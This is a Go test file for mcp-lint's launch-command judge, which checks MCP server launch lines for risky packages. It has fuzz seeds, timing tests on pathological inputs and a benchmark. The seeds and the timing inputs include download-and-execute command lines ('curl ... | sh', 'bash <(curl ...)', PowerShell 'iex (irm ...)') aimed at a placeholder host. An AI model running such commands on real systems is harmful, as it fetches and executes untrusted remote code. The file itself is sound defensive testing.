package install_test

import (
	"strings"
	"testing"
	"time"

	"github.com/mcp-lint/mcp-lint/internal/launch/install"
)

// seeds are command lines of every runner and wrapper, words divided by NUL.
func seeds(t testing.TB) []string {
	var lines []string
	var cases []struct{ Command []string }
	readJSON(t, "launch-cases.json", &cases)
	for _, c := range cases {
		lines = append(lines, strings.Join(c.Command, "\x00"))
	}
	for _, line := range []string{
		"sh -c|$(curl https://x.example/a.sh)", "bash -c|bash <(curl -s https://x.example/a.sh)", "pwsh -c|iex (irm https://x.example/a.ps1)",
		"fish -c|set -x A b; npx (cat p)", "cmd /c|npx -y a & uvx \"b\" %C% ^& d", "env -S|npx -y a", "mise x|npm:a@latest|-- a",
		"nix run|github:a/b?rev=x#c", "deno run|npm:@a/b@^1/c", "jbang|a:b:[1,2)", "gem exec|-v|1.0|a", "dotnet tool exec|A@1.*", "go run|a.example/b@master",
		"docker run|-it -e A=b|--mount type=bind|a:1@sha256:x", "npx|-c|a && b", "npx a@npm:b@1.0.0", "uvx|--with|a,b>=1,<2|c", "op run|--|npx|a", "wsl -e npx a",
	} {
		lines = append(lines, strings.ReplaceAll(strings.Join(strings.FieldsFunc(line, func(r rune) bool { return r == '|' }), "\x00"), "run ", "run\x00"))
	}
	return lines
}

// Whatever stands in a command line, reading it ends soon and without a fault;
// places are inside of their words; and what is refused is also reported.
func FuzzJudge(f *testing.F) {
	for _, line := range seeds(f) {
		f.Add(line)
	}
	bad := builtin(f)
	f.Fuzz(func(t *testing.T, line string) {
		argv := strings.Split(line, "\x00")
		start := time.Now()
		packages := install.Packages(argv, bad)
		seen := install.Judge(argv, bad)
		_, refused := install.Refused(argv, bad)
		if took := time.Since(start); took > 5*time.Second {
			t.Errorf("%d bytes took %s", len(line), took)
		}
		reported := false
		for _, o := range seen {
			reported = reported || o.Rule == "launch/known-bad"
			if o.Message == "" || o.Fix == "" || o.Subject == "" || strings.ContainsAny(o.Message+o.Fix, "\x1b\n\u202e") || len(o.Message) > 2000 {
				t.Errorf("%+v", o)
			}
		}
		if reported != refused {
			t.Errorf("refused %t, reported %t", refused, reported)
		}
		for _, p := range packages {
			inside := p.Arg == -1 && p.Start == 0 && p.End == 0 ||
				p.Arg >= 0 && p.Arg < len(argv) && 0 <= p.Start && p.Start <= p.End && p.End <= len(argv[p.Arg])
			if !inside || p.Name == "" || p.Class == "" {
				t.Errorf("%q: %+v", argv, p)
			}
		}
	})
}

// Hostile command lines cost no more than they are long.
func TestHostileCommandLinesEnd(t *testing.T) {
	t.Parallel()
	bad := builtin(t)
	for name, argv := range map[string][]string{
		"long word":        {"npx", strings.Repeat("a@", 1<<20)},
		"many words":       strings.Split(strings.Repeat("npx -p a ", 50_000), " "),
		"nested shells":    {"sh", "-c", strings.Repeat("sh -c '", 1000)},
		"nested env":       append(strings.Split(strings.Repeat("env ", 5000), " "), "npx", "a"),
		"nested groups":    {"bash", "-c", strings.Repeat("(", 20_000) + "npx a"},
		"nested ifs":       {"bash", "-c", strings.Repeat("if ", 10_000)},
		"nested loops":     {"zsh", "-c", strings.Repeat("while ! ", 4_000)},
		"backquotes":       {"sh", "-c", strings.Repeat("`echo ", 5_000)},
		"quotes in quotes": {"bash", "-c", strings.Repeat("\"$(\"", 5_000)},
		"many lines":       {"bash", "-c", strings.Repeat("npx a\n", 5_000)},
		"substitutions":    {"bash", "-c", strings.Repeat("$(", 20_000) + "npx a" + strings.Repeat(")", 20_000)},
		"equal signs":      {"node", strings.Repeat("a=", 100_000)},
		"hyphens":          {"node", strings.Repeat("-1", 100_000) + ".tgz"},
		"comparisons":      {"uvx", "litellm" + strings.Repeat("<1,", 50_000)},
		"alternatives":     {"npx", "postmark-mcp@" + strings.Repeat("1||", 50_000) + "1"},
		"quotes":           {"cmd", "/c", strings.Repeat("\"", 100_001)},
		"pipes":            {"bash", "-c", "curl https://x.example/a" + strings.Repeat("|cat", 20_000) + "|sh"},
		"commas":           {"uvx", "--with", strings.Repeat("a,", 50_000), "b"},
		"PowerShell":       {"pwsh", "-c", strings.Repeat("iex;irm https://x.example/a;", 5_000)},
		"windows commands": {"cmd", "/c", strings.Repeat("npx a&", 50_000)},
		"open brackets":    {"uvx", "--with", "[" + strings.Repeat("a,", 100_000), "b"},
		"blanks":           {"uvx", "--with", "a," + strings.Repeat(" ", 200_000), "b"},
		"dashes":           strings.Split("uvx a"+strings.Repeat(" -- uvx a", 20_000), " "),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			start := time.Now()
			install.Judge(argv, bad)
			if took := time.Since(start); took > 3*time.Second {
				t.Errorf("%s", took)
			} else {
				t.Log(took)
			}
		})
	}
}

func BenchmarkJudge(b *testing.B) {
	bad := builtin(b)
	var argvs [][]string
	for _, line := range seeds(b) {
		argvs = append(argvs, strings.Split(line, "\x00"))
	}
	b.ReportAllocs()
	for b.Loop() {
		for _, argv := range argvs {
			install.Judge(argv, bad)
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*len(argvs)), "ns/command")
}
